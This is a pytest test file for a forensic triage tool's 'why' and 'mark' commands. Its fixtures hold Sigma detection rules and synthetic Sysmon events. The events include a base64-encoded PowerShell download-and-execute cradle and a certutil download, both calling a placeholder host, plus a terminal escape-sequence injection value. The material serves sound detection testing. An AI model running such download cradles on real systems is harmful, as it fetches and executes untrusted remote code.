"""``casemate why`` and ``casemate mark`` on a small case: what they print, keep, and carry over."""

from __future__ import annotations

import os
import re
import shutil
from datetime import timedelta
from pathlib import Path

import pytest
from small_case import HOSTILE, START, Small, run
from test_commands import HARMLESS, conforms

RULES = """
title: Download by shell
id: 5f1a2b3c-0000-4000-8000-000000000001
logsource: {product: windows, category: process_creation}
detection:
    selection:
        CommandLine|contains: ['DownloadString', 'certutil']
    filter_main_known:
        User|endswith: svc
        ParentImage|endswith: 'x.exe'
    condition: selection and not filter_main_known
level: high
---
title: Failed logon
name: failed_logon
id: 5f1a2b3c-0000-4000-8000-000000000002
logsource: {product: linux, service: sshd}
detection:
    selection: ['Failed password']
    condition: selection
level: low
---
title: Many failed logons
id: 5f1a2b3c-0000-4000-8000-000000000003
correlation:
    type: event_count
    rules: [failed_logon]
    group-by: [source_ip]
    timespan: 2m
    condition: {gte: 10}
level: medium
"""
ENCODED = (
    '{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Provider_Name":"Microsoft-Windows-Sysmon",'
    '"UtcTime":"2026-03-01 12:00:00.000","Hostname":"pc1","Image":"C:\\\\powershell.exe","ParentImage":"C:\\\\x.exe",'
    '"User":"LAB\\\\ann","CommandLine":"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi'
    'AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA=="}\n'
    '{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Provider_Name":"Microsoft-Windows-Sysmon",'
    '"UtcTime":"2026-03-01 12:05:00.000","Hostname":"pc1","Image":"C:\\\\certutil.exe","ParentImage":"C:\\\\x.exe",'
    '"User":"LAB\\\\ann","CommandLine":"certutil -urlcache http://x/a \\u001b[2J"}\n'
)


@pytest.fixture(scope="module")
def ruled(tmp_path_factory: pytest.TempPathFactory, settled: None) -> Path:
    """A case with a finding of each kind; tests that write copy it."""
    folder = tmp_path_factory.mktemp("ruled")
    (folder / "rules").mkdir()
    (folder / "rules" / "all.yml").write_text(RULES)
    (folder / "evidence").mkdir()
    (folder / "evidence" / "sysmon.json").write_text(ENCODED)
    write_log(folder / "evidence" / "auth.log", 20)
    made = run("investigate", folder / "evidence", "--case", folder / "case", "--rules", folder / "rules", "--json")
    assert made.code == 0, made.err
    return folder


def write_log(path: Path, failures: int) -> None:
    failed = "Failed password for root from 203.0.113.9 port 40000 ssh2"
    lines = [
        f"{(START + timedelta(seconds=5 * n)).strftime('%b %e %H:%M:%S')} gw1 sshd[{100 + n}]: {failed}\n"
        for n in range(failures)
    ]
    path.write_text("".join(lines))
    year = START.timestamp() + 86_400
    os.utime(path, (year, year))


def finding(case: Path, where: str) -> str:
    found = run("query", f"SELECT id FROM findings WHERE {where} ORDER BY time, id", "--case", case, "--json")
    assert found.out, where
    return found.lines()[0]["id"]


KINDS = ("detector = 'sigma'", "detector = 'sigma_decoded'", "detector = 'sigma_correlation'", "detector LIKE 'beh%'")


@pytest.mark.parametrize("where", KINDS)
def test_why_follows_its_schema_and_fits_the_terminal(ruled: Path, where: str) -> None:
    case = ruled / "case"
    name = finding(case, where)
    told = run("why", name[:10], "--case", case, "--json")
    assert (told.code, told.err) == (0, "")
    conforms("why", [told.json()])
    assert told.json()["id"] == name
    for words in ([], ["--full"]):
        shown = run("why", name, "--case", case, *words)
        assert (shown.code, shown.err) == (0, "")
        assert HARMLESS.fullmatch(shown.out)
        long = [line for line in shown.out.splitlines() if len(line) > 80 and "casemate record" not in line]
        assert long == []


def test_why_marks_the_rule_and_shows_the_very_value(ruled: Path) -> None:
    told = run("why", finding(ruled / "case", KINDS[0]), "--case", ruled / "case", "--json").json()
    lines = told["rule"]["text"].splitlines()
    held = [lines[m["line"] - 1][m["begin"] : m["end"]] for m in told["rule"]["marks"] if m["state"] == "held"]
    assert held == ["selection", "CommandLine|contains", "'certutil'", "selection"]
    (value,) = told["values"]
    assert (value["value"], value["patterns"]) == ("certutil -urlcache http://x/a \x1b[2J", ["*certutil*"])
    assert told["records"][0]["content"] == ENCODED.splitlines()[1]
    assert told["records"][0]["before"][0]["findings"]


def test_why_shows_decoded_text_and_the_exclusion_that_nearly_held(ruled: Path) -> None:
    told = run("why", finding(ruled / "case", KINDS[1]), "--case", ruled / "case", "--json").json()
    (value,) = told["values"]
    assert value["value"].startswith("powershell -enc")
    assert value["decoded"]["text"].startswith("IEX (New-Object Net.WebClient).DownloadString(")
    assert value["decoded"]["steps"][0] == "base64"
    (miss,) = told["nearly"]
    assert (miss["name"], miss["missing"]["field"], miss["missing"]["value"]) == (
        "filter_main_known",
        "User",
        "LAB\\ann",
    )
    assert [part["field"] for part in miss["held"]] == ["ParentImage"]


def test_why_lists_the_events_of_a_correlation(ruled: Path) -> None:
    told = run("why", finding(ruled / "case", KINDS[2]), "--case", ruled / "case", "--json").json()
    assert len(told["events"]) == 20
    assert [event["time"] for event in told["events"]] == sorted(event["time"] for event in told["events"])
    assert told["otherwise"][0] == "9 instead of 20 within 2m would not be named: the condition is gte 10"
    assert told["rule"]["text"].startswith("title: Many failed logons")


def test_why_draws_what_a_behaviour_judged(ruled: Path) -> None:
    told = run("why", finding(ruled / "case", KINDS[3]), "--case", ruled / "case", "--json").json()
    series = told["series"]
    assert sum(series["counts"]["failures"]) == 20
    assert series["reached"][-1] == 20
    assert series["threshold"] == 5
    assert series["moments"][0]["time"] == "2026-03-02T01:00:20Z"
    shown = run("why", told["id"], "--case", ruled / "case").out
    assert "5 needed" in shown
    assert "4 failed tries instead of 20" in shown


def test_why_refuses_what_is_no_finding(ruled: Path) -> None:
    for name in ("zz", "x:1", "", "\x1b[2J"):
        refused = run("why", name, "--case", ruled / "case")
        assert (refused.code, refused.out) == (2, "")
        assert refused.err.count("\n") == 1


def test_a_verdict_follows_a_log_that_grew_and_the_rerun_is_the_same(ruled: Path, tmp_path: Path) -> None:
    folder = tmp_path / "copy"
    shutil.copytree(ruled, folder)
    case = folder / "case"
    names = [finding(case, where) for where in KINDS]
    marked = run("mark", *names, "--case", case, "--verdict", "benign", "--note", HOSTILE, "--tag", "drill", "--json")
    assert marked.code == 0, marked.err
    conforms("mark", [marked.json()])
    attempt = run("show", "attempts", "--case", case, "--json").lines()[0]["id"]
    assert run("mark", attempt, "--case", case, "--verdict", "true", "--by", "ann").code == 0
    # the original place, so that the log continues
    write_log(ruled / "evidence" / "auth.log", 26)
    again = run("investigate", ruled / "evidence", "--case", case, "--rules", ruled / "rules", "--json")
    assert again.code == 0, again.err
    shown = run("show", "findings", "--case", case, "--only", "annotated", "--json").lines()
    conforms("finding", shown)
    grown = [row for row in shown if row["annotation"]["inherited_from"]]
    assert {row["detector"].split(".")[0] for row in grown} == {"behaviour", "sigma_correlation"}
    assert all(row["annotation"]["verdict"] == "benign" for row in shown)
    assert run("show", "findings", "--case", case, "--verdict", "false", "--json").out == ""
    assert run("show", "attempts", "--case", case, "--verdict", "true", "--json").lines()
    page = run("show", "annotations", "--case", case)
    assert HARMLESS.fullmatch(page.out)
    assert "inherited from" in page.out
    conforms("annotation", run("show", "annotations", "--case", case, "--json").lines())
    conforms("mark_line", run("show", "annotations", "--case", case, "--history", "--json").lines())
    out = folder / "a.csv"
    assert run("export", "--case", case, "--to", "csv", "--only", "annotated", "--out", out).code == 0
    assert out.read_text().count('"benign"') == len(shown)
    same = run("rerun", "--diff", "--case", case, "--rules", ruled / "rules")
    assert same.code == 0, same.out + same.err
    assert "VERIFIED" in same.out
    assert run("custody", "verify", "--case", case).code == 0


def test_marking_a_record_and_taking_it_back(small: Small, tmp_path: Path) -> None:
    case = tmp_path / "case"
    shutil.copytree(small.case, case)
    address = small.address()
    assert run("mark", address[:12] + address[64:], "--case", case, "--note", "look here").code == 0
    (row,) = run("show", "annotations", "--case", case, "--json").lines()
    assert (row["kind"], row["subject"], row["note"]) == ("record", address, "look here")
    assert run("mark", address, "--case", case, "--clear").out.endswith("nothing is said of it any more\n")
    assert run("show", "annotations", "--case", case, "--json").out == ""
    refused = run("mark", address, "--case", case, "--verdict", "perhaps")
    assert (refused.code, refused.err.count("\n")) == (2, 1)
    assert re.search("one of true, false, benign, duplicate", refused.err)
